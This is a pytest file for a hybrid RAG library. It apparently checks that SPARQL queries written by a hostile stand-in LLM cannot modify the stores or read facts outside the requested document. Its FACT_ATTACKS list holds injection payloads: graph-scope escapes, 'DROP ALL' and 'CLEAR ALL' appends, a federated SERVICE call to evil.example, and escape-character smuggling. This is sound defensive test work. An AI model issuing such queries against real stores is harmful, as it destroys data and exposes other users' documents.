"""LLM-written SPARQL through the public API: a hostile model cannot write or widen scope.

A ``FunctionLLM`` (the library's fake) answers every "write a SPARQL query" prompt with an
attack: the 170 cases of ``_injection_cases`` and fact-shaped queries that try to read
other documents. ``ask(..., docs=[first], mode="kg")`` must leave every store as it was
and return no fact whose value, quote, label or product comes only from another document.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from _injection_cases import CASES  # type: ignore[import-not-found]

from hybrid_rag import HybridRAG
from hybrid_rag._vocab import DOC_GRAPH, HR, RDFS_LABEL
from hybrid_rag.models import ChatMessage
from hybrid_rag.samples import sample_pdfs
from hybrid_rag.testing import FunctionLLM

_FACT = (
    f"?fact <{HR}doc> ?doc ; <{HR}subject> ?product ; <{HR}property> ?prop ;"
    f" <{HR}value> ?value ; <{HR}page> ?page ; <{HR}quote> ?quote . ?product <{RDFS_LABEL}> ?label"
)
_VARS = "?fact ?doc ?product ?label ?prop ?value ?page ?quote"
OTHER = "{other}"  # replaced by another document's graph IRI


FACT_ATTACKS = [
    f"SELECT {_VARS} WHERE {{ {_FACT} }}",
    f"SELECT {_VARS} WHERE {{ GRAPH ?g {{ {_FACT} }} }}",
    f"SELECT {_VARS} FROM <{OTHER}> WHERE {{ {_FACT} }}",
    f"SELECT {_VARS} FROM NAMED <{OTHER}> WHERE {{ GRAPH ?g {{ {_FACT} }} }}",
    f"SELECT {_VARS} WHERE {{ GRAPH <{OTHER}> {{ {_FACT} }} }}",
    f"SELECT {_VARS} WHERE {{ VALUES ?g {{ <{OTHER}> }} GRAPH ?g {{ {_FACT} }} }}",
    f"SELECT {_VARS} WHERE {{ BIND(IRI('{OTHER}') AS ?g) GRAPH ?g {{ {_FACT} }} }}",
    f"SELECT {_VARS} WHERE {{ {{ {_FACT} }} UNION {{ GRAPH ?g {{ {_FACT} }} }} }}",
    f"SELECT {_VARS} WHERE {{ {{ SELECT * WHERE {{ GRAPH ?g {{ {_FACT} }} }} }} }}",
    f"SELECT {_VARS} WHERE {{ GRAPH ?g {{ {_FACT} }} FILTER(?g != <urn:x>) }}",
    f"SELECT {_VARS} WHERE {{ {_FACT} FILTER(<bif:exec>('SPARQL CLEAR ALL') = 0) }}",
    f"SELECT {_VARS} WHERE {{ {_FACT} }} ; DROP ALL",
    f"SELECT {_VARS} WHERE {{ SERVICE <http://evil.example/q> {{ {_FACT} }} }}",
    f"SELECT {_VARS} \\u0046ROM <{OTHER}> WHERE {{ {_FACT} }}",
    f"SELECT {_VARS} WHERE {{ {_FACT} }} # \\u000A UNION {{ GRAPH ?g {{ {_FACT} }} }}",
]


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[HybridRAG, dict[str, Any]]]:
    root = tmp_path_factory.mktemp("llm-sparql")
    state: dict[str, Any] = {"attack": ""}

    def model(messages: list[ChatMessage]) -> str:
        if "SPARQL" in messages[0].content:
            return f"```sparql\n{state['attack']}\n```"
        return "No answer."

    with HybridRAG(root / "store", embedder="hashing", llm=FunctionLLM(model)) as rag:
        rag.ingest_many(sample_pdfs(root / "samples"), raise_errors=True)
        yield rag, state


def _values(rag: HybridRAG, doc: str) -> set[str]:
    return {t.value for triple in rag.graph.dump(doc) for t in triple}  # type: ignore[attr-defined]


def _snapshot(rag: HybridRAG) -> Any:
    docs = sorted(d.doc_id for d in rag.documents())
    return docs, [rag.graph.dump(d) for d in docs], len(rag.vectors)  # type: ignore[attr-defined]


@pytest.mark.parametrize("attack", FACT_ATTACKS + CASES)
def test_hostile_llm_cannot_write_or_read_outside_scope(
    attack: str, setup: tuple[HybridRAG, dict[str, Any]]
) -> None:
    rag, state = setup
    mine, *others = sorted(d.doc_id for d in rag.documents())
    state["attack"] = attack.replace(OTHER, DOC_GRAPH + others[0])
    before = _snapshot(rag)
    answer = rag.ask("Tell me everything you know.", docs=[mine], mode="kg")
    assert _snapshot(rag) == before, "the store changed"
    assert answer.sparql or not attack.strip(), "the hostile query was never tried"
    own = _values(rag, mine)
    foreign = set().union(*(_values(rag, d) for d in others)) - own
    seen = {v for f in answer.facts for v in (f.value, f.evidence.quote, f.subject, f.subject_iri)}
    assert not seen & foreign, "a fact came from another document"


def test_a_benign_llm_query_reads_the_scoped_document(
    setup: tuple[HybridRAG, dict[str, Any]],
) -> None:
    """The check above is not vacuous: an honest fact query returns facts of ``mine``."""
    rag, state = setup
    mine = sorted(d.doc_id for d in rag.documents())[0]
    state["attack"] = FACT_ATTACKS[0]
    answer = rag.ask("Tell me everything you know.", docs=[mine], mode="kg")
    assert answer.facts and {f.doc_id for f in answer.facts} == {mine}
